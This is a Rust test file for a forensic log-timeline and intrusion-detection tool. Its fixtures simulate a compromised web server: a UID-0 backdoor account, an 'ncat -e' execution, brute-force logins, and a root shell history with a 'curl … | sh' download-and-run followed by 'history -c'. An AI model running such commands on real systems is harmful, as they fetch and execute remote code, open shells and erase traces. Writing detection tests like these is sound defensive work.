//! The other sources of a target (sudo/su/useradd in auth.log, dpkg, apt, audit, histories, journald
//! JSON), the account-based detections, the filesystem timeline and the exporters.

use cordon_core::Severity;
use cordon_timeline::detect::{Accounts, Config};
use cordon_timeline::export::{Format, Timeline};
use cordon_timeline::fs::{FsEntry, walk_entries, write_bodyfile};
use cordon_timeline::sources::Options;

use crate::common::*;

const PASSWD: &[u8] = b"root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nalice:x:1000:1000::/home/alice:/bin/bash\nbob:x:1001:1001::/home/bob:/bin/bash\n";
const GROUP: &[u8] = b"root:x:0:\nsudo:x:27:alice\nwww-data:x:33:\n";

fn target() -> Root {
    let r = Root::new();
    r.write("/etc/passwd", PASSWD, MTIME);
    r.write("/etc/group", GROUP, MTIME);
    r.write(
        "/var/log/auth.log",
        b"Apr 20 03:10:00 web01 sshd[10]: Accepted publickey for www-data from 203.0.113.7 port 4000 ssh2: RSA SHA256:abc\n\
Apr 20 03:11:00 web01 sudo:   www-data : TTY=pts/0 ; PWD=/var/www ; USER=root ; COMMAND=/bin/bash\n\
Apr 20 03:12:00 web01 useradd[20]: new user: name=sysupd, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0\n\
Apr 20 03:12:30 web01 usermod[21]: add 'bob' to group 'sudo'\n\
Apr 20 03:13:00 web01 passwd[22]: pam_unix(passwd:chauthtok): password changed for root\n\
Apr 20 03:14:00 web01 sudo:      bob : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/id\n\
Apr 20 03:15:00 web01 su[30]: (to root) www-data on pts/0\n\
Apr 20 03:16:00 web01 sudo:    alice : TTY=pts/2 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt update\n",
        1_713_600_000,
    );
    r.write("/var/log/dpkg.log", b"2024-04-20 03:20:00 install ncat:amd64 <none> 7.93\n2024-04-20 03:20:01 status installed ncat:amd64 7.93\n", 1_713_600_000);
    r.write("/var/log/apt/history.log", b"\nStart-Date: 2024-04-20  03:19:59\nCommandline: apt-get install -y ncat\nInstall: ncat:amd64 (7.93)\nEnd-Date: 2024-04-20  03:20:02\n", 1_713_600_000);
    r.write(
        "/var/log/audit/audit.log",
        b"type=EXECVE msg=audit(1713583300.000:99): argc=2 a0=\"ncat\" a1=\"-e\"\n",
        1_713_600_000,
    );
    r.write(
        "/root/.bash_history",
        b"#1713583400\ncurl http://203.0.113.7/x | sh\nhistory -c\n",
        1_713_600_000,
    );
    r
}

#[test]
fn account_and_privilege_detections() {
    let root = target();
    let cfg = Config {
        accounts: Accounts::from_root(root.path()),
        ..Config::new("web01")
    };
    let run = run(&root, cfg);
    let one = |check: &str| {
        let f = checks(&run.findings, check);
        assert_eq!(
            f.len(),
            1,
            "{check}: {:#?}",
            run.findings
                .iter()
                .map(|f| (&f.check, &f.summary))
                .collect::<Vec<_>>()
        );
        f[0].clone()
    };
    assert_eq!(one("logs.login_by_system_account").severity, Severity::High);
    assert_eq!(one("logs.new_account").severity, Severity::Critical);
    assert_eq!(one("logs.privileged_group_add").severity, Severity::High);
    assert_eq!(one("logs.password_change").severity, Severity::Medium);
    assert_eq!(one("logs.sudo_denied").user.as_deref(), Some(&b"bob"[..]));
    let sudo = one("logs.sudo_unexpected_user");
    assert_eq!(
        (sudo.severity, sudo.user.as_deref()),
        (Severity::High, Some(&b"www-data"[..]))
    );
    assert_eq!(one("logs.su_by_system_account").severity, Severity::High);
    // alice is in sudo: her sudo is expected.
    assert!(
        checks(&run.findings, "logs.sudo_unexpected_user")
            .iter()
            .all(|f| f.user.as_deref() != Some(&b"alice"[..]))
    );
    // Other sources are in the timeline.
    for dt in [
        "linux:dpkg",
        "linux:apt:history",
        "linux:auditd",
        "shell:history",
        "linux:auth:sudo",
    ] {
        assert!(run.events.iter().any(|e| e.data_type == dt), "{dt}");
    }
    let h: Vec<_> = run
        .events
        .iter()
        .filter(|e| e.data_type == "shell:history")
        .collect();
    assert_eq!(h[0].timestamp_desc, "Command Run");
    assert_eq!(
        h[1].timestamp_desc,
        "History File Modified (command time unknown)"
    );
    assert_eq!(attr(h[0], "user"), Some("root"));
    let audit = run.events.iter().find(|e| e.data_type == "linux:auditd").unwrap();
    assert_eq!(attr(audit, "command"), Some("ncat -e"));
}

#[test]
fn journal_json_feeds_the_same_detections() {
    let mut lines = Vec::new();
    for i in 0..12 {
        lines.push(format!(r#"{{"__REALTIME_TIMESTAMP":"{}","_HOSTNAME":"web01","SYSLOG_IDENTIFIER":"sshd-session","MESSAGE":"Failed password for root from 198.51.100.9 port {} ssh2"}}"#, 1_713_582_000_000_000u64 + i * 1_000_000, 5000 + i));
    }
    lines.push(r#"{"__REALTIME_TIMESTAMP":"1713582100000000","_HOSTNAME":"web01","SYSLOG_IDENTIFIER":"sshd-session","MESSAGE":"Accepted password for root from 198.51.100.9 port 6000 ssh2"}"#.to_owned());
    let root = Root::new();
    let p = root.write(
        "/export/journal.json",
        (lines.join("\n") + "\n").as_bytes(),
        MTIME,
    );
    let file = cordon_timeline::sources::LogFile {
        inner: b"/export/journal.json".to_vec(),
        local: p.clone(),
        format: cordon_timeline::sources::sniff(&p).unwrap(),
        family: "journal".into(),
        order: 0,
        user: None,
        root: None,
    };
    assert_eq!(file.format, cordon_timeline::sources::Format::JournalJson);
    let mut det = cordon_timeline::detect::Detector::new(Config::new("web01"));
    let mut opts = Options::new("web01");
    let rep = cordon_timeline::sources::process(&file, &mut opts, Some(&mut det), &mut |_| {});
    assert_eq!(rep.parsed, 13);
    let f = det.finish();
    assert_eq!(
        checks(&f, "logs.bruteforce_then_success")[0].severity,
        Severity::Critical
    );
}

#[test]
fn filesystem_timeline_matches_stat_and_exports_round_trip() {
    let root = Root::new();
    root.write("/srv/a.txt", b"a", 1_700_000_000);
    root.write("/srv/sub/b|%weird\nname", b"bb", 1_600_000_000);
    let target = root.target();
    let mut tl = Timeline::new("h");
    let stats = walk_entries(&target, b"/srv", &Default::default(), &mut |p, m| {
        tl.push_fs(FsEntry::new(p, m), &|_| true)
    })
    .unwrap();
    assert_eq!(stats.entries, 3);
    tl.sort();
    let mut out = Vec::new();
    let n = tl.write(Format::Jsonl, &mut out).unwrap();
    assert_eq!(n as usize, tl.len());
    let events: Vec<serde_json::Value> = String::from_utf8(out)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let ts: Vec<i64> = events.iter().map(|e| e["timestamp"].as_i64().unwrap()).collect();
    assert!(ts.windows(2).all(|w| w[0] <= w[1]), "sorted");
    let m = events
        .iter()
        .find(|e| e["timestamp_desc"] == "Content Modification Time" && e["message"] == "/srv/a.txt")
        .unwrap();
    assert_eq!(m["timestamp"], 1_700_000_000_000_000i64);
    assert_eq!(m["datetime"], "2023-11-14T22:13:20.000000000Z");
    for e in &events {
        for k in ["datetime", "timestamp_desc", "message"] {
            assert!(e.get(k).is_some(), "{k} in {e}");
        }
    }
    let mut ts_out = Vec::new();
    tl.write(Format::Timesketch, &mut ts_out).unwrap();
    assert!(
        String::from_utf8(ts_out)
            .unwrap()
            .contains("\"datetime\":\"2023-11-14T22:13:20.000000+00:00\"")
    );

    let mut body = Vec::new();
    write_bodyfile(&target, b"/srv", &Default::default(), None, None, &mut body).unwrap();
    let body = String::from_utf8(body).unwrap();
    assert_eq!(body.lines().count(), 3);
    let line = body.lines().find(|l| l.contains("a.txt")).unwrap();
    let cols: Vec<&str> = line.split('|').collect();
    assert_eq!(cols.len(), 11);
    assert_eq!(
        (cols[0], cols[1], cols[3], cols[6], cols[8]),
        ("0", "/srv/a.txt", "r/rrw-r--r--", "1", "1700000000")
    );
    assert!(body.contains("/srv/sub/b%7C%25weird%0Aname|"));

    let mut csv = Vec::new();
    tl.write(Format::Csv, &mut csv).unwrap();
    let mut r = csv::Reader::from_reader(&csv[..]);
    assert_eq!(r.headers().unwrap().iter().next(), Some("datetime"));
    assert_eq!(r.records().count(), tl.len());
}
